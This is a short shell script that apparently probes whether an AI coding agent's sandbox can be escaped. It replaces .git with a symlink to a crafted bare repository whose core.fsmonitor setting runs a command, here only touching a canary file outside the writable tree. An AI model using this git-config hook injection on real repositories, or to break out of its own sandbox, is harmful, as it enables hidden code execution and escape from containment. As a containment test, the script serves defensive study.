#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: .git replaced by a symlink to an attacker gitdir
git init -q --bare .evil; git --git-dir=.evil config core.bare false; git --git-dir=.evil config core.fsmonitor "$SC; false"
mv .git .git-old 2>/dev/null; ln -s .evil .git
